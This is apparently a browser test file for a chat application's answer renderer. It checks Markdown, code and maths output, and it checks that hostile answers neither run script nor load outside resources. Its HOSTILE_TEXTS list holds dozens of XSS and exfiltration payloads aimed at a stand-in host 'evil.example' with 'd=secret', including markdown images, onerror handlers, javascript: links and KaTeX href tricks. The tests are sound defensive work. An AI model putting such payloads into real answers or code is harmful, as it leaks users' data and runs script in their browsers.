"""Rendered answers: Markdown, code and maths; hostile answers load and run nothing."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

import pytest

from tests.browser.actions import FINISHED_ANSWER, open_conversation
from tests.browser.conftest import PageMonitor, Site

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

TAGS = {
    "a", "annotation", "blockquote", "br", "button", "code", "del", "div", "em", "figcaption", "figure", "h3", "h4",
    "h5", "h6", "hr", "input", "li", "ol", "p", "path", "pre", "rect", "semantics", "span", "strong", "svg", "table",
    "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
"""Elements that an answer may have, besides MathML."""
ATTRIBUTES = {
    "alt", "aria-disabled", "aria-hidden", "aria-label", "class", "checked", "d", "data-base-ui-tooltip-trigger",
    "disabled", "encoding", "fill", "id",
    "height", "href", "rel", "role", "scope", "start", "stroke", "stroke-linecap", "stroke-linejoin", "stroke-width",
    "style", "tabindex", "target", "title", "type", "viewBox", "width", "xmlns", "rx", "ry", "x", "y",
}  # fmt: skip
ELEMENTS = """
() => [...document.querySelectorAll(".answer")].map((answer) =>
  [...answer.querySelectorAll(".markdown *")].map((element) => [
    element.localName, Object.fromEntries([...element.attributes].map((a) => [a.name, a.value])), element.namespaceURI,
  ]))
"""
EVIL_URL = "https://evil.example/x?d=secret"
HOSTILE_TEXTS = [
    f"![a]({EVIL_URL})",
    f"![]({EVIL_URL})",
    f"[![a]({EVIL_URL})](http://a.example)",
    f'![a]({EVIL_URL} "t")',
    f"![a][1]\n\n[1]: {EVIL_URL}",
    f'<img src="{EVIL_URL}">',
    f"<img src={EVIL_URL} onerror=alert(1)>",
    f"<iframe src={EVIL_URL}></iframe>",
    f"<script src={EVIL_URL}></script>",
    f"<link rel=stylesheet href={EVIL_URL}>",
    f"<style>@import '{EVIL_URL}'</style>",
    f"<video poster={EVIL_URL}></video>",
    f"<audio src={EVIL_URL} autoplay>",
    f"<source srcset={EVIL_URL}>",
    f"<object data={EVIL_URL}>",
    f"<embed src={EVIL_URL}>",
    f"<svg><image href='{EVIL_URL}'/></svg>",
    f"<svg><use xlink:href='{EVIL_URL}#a'/></svg>",
    f"<svg onload=fetch('{EVIL_URL}')>",
    f"<body background={EVIL_URL}>",
    f'<div style="background:url({EVIL_URL})">a</div>',
    f"<meta http-equiv=refresh content='0;url={EVIL_URL}'>",
    f"<base href={EVIL_URL}>",
    f"<form action={EVIL_URL}><input autofocus>",
    f"<math><mi xlink:href='{EVIL_URL}'>a</mi></math>",
    f"<input type=image src={EVIL_URL}>",
    f"<track src={EVIL_URL}>",
    f"<table background={EVIL_URL}>",
    f"<portal src={EVIL_URL}>",
    f"<frameset><frame src={EVIL_URL}>",
    f"<applet code={EVIL_URL}>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example)",
    "[a](/api/signout)",
    "[a](\x01javascript:alert(1))",
    "[a](ftp://evil.example)",
    "[a](blob:http://x)",
    '[a](http://a.example"onmouseover="alert(1))',
    "[a](http://a.example'onclick='b)",
    "[a](http://a.example<script>)",
    "[<img src=x onerror=alert(1)>](http://a.example)",
    "`<script>alert(1)</script>`",
    "```html\n<script>x</script>\n```",
    f"```{EVIL_URL}\na\n```",
    '```" onload="alert(1)\na\n```',
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "1. <script>x</script>",
    "| <script> | a |\n|---|---|\n| <img src=x> | b |",
    "**<b onclick=x>**",
    "*<i onclick=x>*",
    "~~<s onclick=x>~~",
    "<!-- --!><script>x</script>",
    "<![CDATA[<script>]]>",
    "&lt;script&gt;",
    "\0<script>",
    "\u202e<script>",
    "<a href='javascript:x'>a</a>",
    "<template><script>x</script>",
    f"$\\href{{{EVIL_URL}}}{{a}}$",
    f"$\\url{{{EVIL_URL}}}$",
    f"$$\\includegraphics{{{EVIL_URL}}}$$",
    f"$\\htmlStyle{{background:url({EVIL_URL})}}{{a}}$",
    f"$\\htmlData{{a={EVIL_URL}}}{{b}}$",
    f"$\\def\\a{{\\href{{{EVIL_URL}}}{{b}}}}\\a$",
    f"$\\text{{<img src={EVIL_URL}>}}$",
    f"[^1]\n\n[^1]: ![a]({EVIL_URL})",
    f"- [ ] ![a]({EVIL_URL})",
    f"```svg\n<svg><image href='{EVIL_URL}'/></svg>\n```",
]


@pytest.fixture(scope="module")
def hostile_conversation(site: Site) -> str:
    """A conversation with all hostile texts."""
    return site.write_conversation(*HOSTILE_TEXTS)


def elements_of_answers(page: Page) -> list[list[tuple[str, dict[str, str], str]]]:
    answers: list[list[tuple[str, dict[str, str], str]]] = page.evaluate(ELEMENTS)
    return answers


def test_hostile_answers_load_and_run_nothing(page: Page, site: Site, hostile_conversation: str) -> None:
    assert len(HOSTILE_TEXTS) >= 60
    page.on("dialog", lambda _: pytest.fail("a script ran"))
    open_conversation(page, site, hostile_conversation)
    assert page.locator(FINISHED_ANSWER).count() == len(HOSTILE_TEXTS)
    page.locator(".katex").first.wait_for()
    page.wait_for_load_state("networkidle")
    for text, elements in zip(HOSTILE_TEXTS, elements_of_answers(page), strict=True):
        for tag, attributes, namespace in elements:
            is_maths = namespace.endswith("MathML")
            assert is_maths or tag in TAGS, (text, tag)
            assert is_maths or set(attributes) <= ATTRIBUTES, (text, attributes)
            assert not {"src", "srcset", "xlink:href", "background"} & set(attributes), text
            assert not any(name.startswith("on") for name in attributes), text
            assert "url(" not in attributes.get("style", ""), text
            assert "href" not in attributes or tag == "a", text
            if tag == "a":
                assert re.fullmatch(r"(https?://|mailto:)[^\s<>\"'`\\]+", attributes["href"]), text
                assert {"noopener", "noreferrer"} <= set(attributes["rel"].split())
    assert "<img src=" in page.locator(".answer", has_text="onerror=alert(1)>").first.inner_text()


def test_monitor_sees_a_request_to_another_host(browser: Browser, site: Site, signed_in: Any) -> None:
    """With the content security policy off, the monitor reports the request of an injected image."""
    context = browser.new_context(storage_state=signed_in, bypass_csp=True)
    page = context.new_page()
    monitor = PageMonitor(page, site.url)
    page.goto(site.url)
    page.wait_for_selector("#composer-input")
    monitor.check()
    page.evaluate("(url) => document.body.append(Object.assign(new Image(), { src: url }))", EVIL_URL)
    page.wait_for_timeout(300)
    assert monitor.foreign_requests == [EVIL_URL]
    context.close()


def test_partial_hostile_answer_loads_nothing(page: Page, site: Site) -> None:
    """Every prefix of a hostile answer, as the page shows it while the answer is generated."""
    text = f"![a]({EVIL_URL}) <img src={EVIL_URL}> [a](javascript:alert(1)) $\\href{{{EVIL_URL}}}{{a}}$"
    open_conversation(page, site, site.write_conversation(*(text[:end] for end in range(1, len(text) + 1))))
    page.wait_for_load_state("networkidle")
    assert page.locator(FINISHED_ANSWER).count() == len(text)
    assert page.locator(".answer :is(img, iframe, script, [src], a[href^='javascript'])").count() == 0


def test_markdown_code_and_maths_are_rendered(page: Page, site: Site) -> None:
    text = "# Title\n\nA **bold** and *slanted* `code`.\nNext ~~gone~~ 2 * 3 * 4 and snake_case_name\n\n"
    text += "- one\n- two\n\n3. three\n\n> said\n\n```python\ndef f(x):\n    return x  # done\n```\n\n"
    text += "|a|b|\n|:--|--:|\n|1|2|\n\n- [x] done\n\n[a](https://a.example) &amp; $e^{i\\pi} = -1$, costs $5 or $6\n\n"
    text += "$$\n\\int_0^1 x\\,dx = \\frac12\n$$\n\n\\(a_b\\) $\\undefined{$\n"
    open_conversation(page, site, site.write_conversation(text))
    answer = page.locator(".markdown")
    page.locator(".katex-display").wait_for()
    for selector in ("h3", "strong", "em", "ul", "ol[start='3']", "blockquote", "table", "a[href='https://a.example']"):
        assert answer.locator(selector).count() >= 1, selector
    assert answer.locator("em").count() == 1
    assert answer.locator("del").inner_text() == "gone"
    answer.locator("pre .hljs-keyword", has_text="def").wait_for()
    assert answer.locator("pre").inner_text() == "def f(x):\n    return x  # done"
    assert answer.locator(".katex").count() == 3
    assert "costs $5 or $6" in answer.inner_text()
    assert answer.locator("input[type=checkbox]").is_checked()
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    answer.locator("figure.code-block").get_by_role("button", name="Copy").click()
    answer.get_by_role("button", name="Copied").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == "def f(x):\n    return x  # done"


def test_pathological_markdown_renders_in_time(page: Page, site: Site) -> None:
    fragments = [
        "`", "*", "**", "[", "](", "![", "~~", "|", "> ", "- ", "#", "\n", "```\n",
        "[a](", "**a", "`a", " ", "|-|\n", "$", "$a", "\\(", "<a ", "&#",
    ]  # fmt: skip
    conversation = site.write_conversation(*(fragment * (10_000 // len(fragment)) for fragment in fragments))
    open_conversation(page, site, conversation)
    assert page.locator(FINISHED_ANSWER).count() == len(fragments)
    elapsed_ms = page.evaluate("() => performance.now()")
    assert elapsed_ms < 15_000
